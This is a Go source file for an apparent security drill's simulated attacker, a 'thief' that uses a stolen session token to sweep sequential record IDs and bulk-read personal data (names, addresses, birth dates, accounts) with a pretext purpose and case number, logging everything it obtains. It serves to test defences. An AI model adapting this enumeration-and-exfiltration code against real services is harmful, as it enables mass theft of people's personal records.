// Package thief is the drill's own attacker: malware on a staff PC that has the
// live session of whoever works there, and nothing else. It speaks HTTPS like any
// client and writes down all that it obtains, as drill/PROTOCOL.md asks of any
// program that plays the part.
//
// It promises no privilege: it imports nothing of Azekura's, which a test holds.
// Each thing obtained is in the kernel's hands before the next is asked for, so
// killing the thief loses nothing of its tally but requests under way.
package thief

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// Config is what the thief is given.
type Config struct {
	URL   string // https://host:port
	CA    string // the file of the certificate to trust
	Token string // the stolen session's
	Out   string // the file that its tally is appended to
	// In a drill of days:
	PCs    string    // the file of the PCs that it holds
	Known  string    // the file of people known from elsewhere
	People int64     // in the register, as the agency publishes it
	Clock  string    // where it sleeps
	Until  time.Time // the end
}

// FromEnv takes the configuration that the drill puts into its attacker's
// environment.
func FromEnv(getenv func(string) string) (Config, error) {
	c := Config{URL: getenv("AZEKURA_DRILL_URL"), CA: getenv("AZEKURA_DRILL_CA"), Token: getenv("AZEKURA_DRILL_TOKEN"), Out: getenv("AZEKURA_DRILL_OUT")}
	c.PCs, c.Known, c.Clock = getenv("AZEKURA_DRILL_PCS"), getenv("AZEKURA_DRILL_KNOWN"), getenv("AZEKURA_DRILL_CLOCK")
	if until := getenv("AZEKURA_DRILL_UNTIL"); c.PCs != "" {
		var err error
		if c.Until, err = time.Parse(time.RFC3339, until); err != nil {
			return c, fmt.Errorf("read AZEKURA_DRILL_UNTIL: %w", err)
		}
		if c.People, err = strconv.ParseInt(getenv("AZEKURA_DRILL_PEOPLE"), 10, 64); err != nil || c.People < 1 || c.People > highest {
			return c, errors.New("AZEKURA_DRILL_PEOPLE isn't how many are in the register")
		}
	}
	if c.URL == "" || c.CA == "" || c.Token == "" || c.Out == "" {
		return c, errors.New("the attacker is started by azekura drill, which gives it AZEKURA_DRILL_URL, _CA, _TOKEN and _OUT; see drill/PROTOCOL.md")
	}
	return c, nil
}

const (
	// sweepers and searchers are how many connections each way of stealing has.
	sweepers  = 40
	searchers = 4
	// gap is how many refs in a row that nobody has end the sweep.
	gap = 200
	// patience is how many requests in a row may fail before a way is given up.
	patience = 100
)

// everything is all that a record holds.
var everything = []string{"number", "name", "kana", "romaji", "birth", "sex", "address", "phone", "email", "account", "ref"}

type thief struct {
	config Config
	http   *http.Client
	out    *tally
	next   atomic.Int64 // the sweep's next ref
	last   atomic.Int64 // the highest ref that the sweep found
}

// Run steals until nobody is left, it is refused, or ctx ends.
func Run(ctx context.Context, c Config) error {
	t := &thief{config: c}
	var err error
	if t.http, err = t.trusting(); err != nil {
		return err
	}
	file, err := os.OpenFile(c.Out, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	if err != nil {
		return fmt.Errorf("open the tally: %w", err)
	}
	t.out = &tally{w: file}
	if c.PCs != "" {
		return errors.Join(t.days(ctx), file.Close())
	}
	return errors.Join(t.steal(ctx), file.Close())
}

// trusting makes a client that has nothing but the server's certificate.
func (t *thief) trusting() (*http.Client, error) { return t.presenting(nil, nil) }

// presenting makes one that shows a PC's certificate, perhaps from an address of its
// own, as a machine elsewhere would.
func (t *thief) presenting(of *pc, from net.Addr) (*http.Client, error) {
	pem, err := os.ReadFile(t.config.CA)
	if err != nil {
		return nil, fmt.Errorf("read the server's certificate: %w", err)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pem) {
		return nil, errors.New("the server's certificate isn't PEM")
	}
	config := &tls.Config{RootCAs: roots}
	if of != nil && of.Cert != "" {
		pair, err := tls.LoadX509KeyPair(of.Cert, of.Key)
		if err != nil {
			return nil, fmt.Errorf("take a PC's certificate: %w", err)
		}
		config.Certificates = []tls.Certificate{pair}
	}
	dialer := &net.Dialer{LocalAddr: from}
	return &http.Client{Transport: &http.Transport{TLSClientConfig: config, DialContext: dialer.DialContext, MaxIdleConnsPerHost: sweepers + searchers,
		MaxConnsPerHost: sweepers + searchers}}, nil
}

func (t *thief) steal(ctx context.Context) error {
	searching, enough := context.WithCancel(ctx)
	defer enough()
	var sweep, search sync.WaitGroup
	sweeping := &attempt{name: "sweep", out: t.out}
	for range sweepers {
		sweep.Go(func() { t.sweep(ctx, sweeping) })
	}
	finding := &attempt{name: "search", out: t.out}
	search.Go(func() { t.search(searching, finding) })
	sweep.Wait()
	enough() // what is left to find is known
	search.Wait()
	sweeping.count()
	finding.count()
	return t.out.failure()
}

// sweep reads one record after another by the agency's keys, which count up.
func (t *thief) sweep(ctx context.Context, a *attempt) {
	for failed := 0; failed < patience; {
		n := t.next.Add(1)
		if n > t.last.Load()+gap {
			return
		}
		for ; failed < patience; failed++ {
			err := t.read(ctx, a, n)
			if final(ctx, err) {
				return
			}
			if err == nil {
				failed = 0
				break
			}
			pause(ctx)
		}
	}
}

func (t *thief) read(ctx context.Context, a *attempt, n int64) error {
	var got struct {
		Participant string                     `json:"participant"`
		Values      map[string]json.RawMessage `json:"values"`
	}
	a.tried.Add(1)
	ask := map[string]any{"ref": ref(n), "fields": everything, "purpose": "enquiry", "case": "C-2015"}
	err := t.post(ctx, "/v1/read", ask, &got)
	if errors.Is(err, errNobody) {
		return nil
	}
	if err != nil {
		return err
	}
	for last := t.last.Load(); n > last && !t.last.CompareAndSwap(last, n); last = t.last.Load() {
	}
	l := line{Attempt: a.name, Participant: got.Participant, Ref: ref(n), Values: got.Values}
	for _, f := range everything {
		if _, there := got.Values[f]; there {
			l.Fields = append(l.Fields, f)
		} else {
			l.None = append(l.None, f)
		}
	}
	a.obtained(&l)
	return nil
}

// errNobody is the answer about a ref that nobody has; errRefused ends an attempt.
var (
	errNobody  = errors.New("nobody")
	errRefused = errors.New("refused")
)

func final(ctx context.Context, err error) bool {
	return ctx.Err() != nil || errors.Is(err, errRefused)
}

func (t *thief) post(ctx context.Context, path string, in, out any) error {
	return t.postAs(ctx, t.http, t.config.Token, path, in, out)
}

func (t *thief) postAs(ctx context.Context, c *http.Client, token, path string, in, out any) error {
	raw, err := json.Marshal(in)
	if err != nil {
		return err
	}
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, t.config.URL+path, bytes.NewReader(raw))
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Authorization", "Bearer "+token)
	answer, err := c.Do(r)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	body := io.LimitReader(answer.Body, 1<<20)
	switch {
	case answer.StatusCode != http.StatusOK:
		err = status(answer.StatusCode)
	case out != nil:
		err = json.NewDecoder(body).Decode(out)
	}
	// Read to its end, the connection serves again.
	_, _ = io.Copy(io.Discard, body)
	return err
}

// ref is the n-th key of an agency that counts A0000001, A0000002, …
func ref(n int64) string {
	const block = 10_000_000
	return string(rune('A'+(n/block)%26)) + fmt.Sprintf("%07d", n%block)
}
